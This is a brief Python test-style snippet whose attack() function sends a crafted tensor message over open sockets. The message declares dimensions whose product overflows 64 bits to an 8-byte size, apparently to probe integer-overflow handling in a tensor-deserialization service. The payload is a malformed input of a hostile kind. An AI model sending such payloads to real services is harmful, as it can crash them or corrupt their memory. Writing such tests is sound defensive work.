"""Describes a tensor whose size overflows 64 bits to 8 bytes."""

import os
import struct


def attack():
    for fd in sockets():
        text = b'{"id": 6, "op": "ok", "tensors": [["0", "float64", [4294967296, 4294967296, 4294967297]]]}'
        os.write(fd, struct.pack("<IQ", len(text), 8) + text + bytes(8))
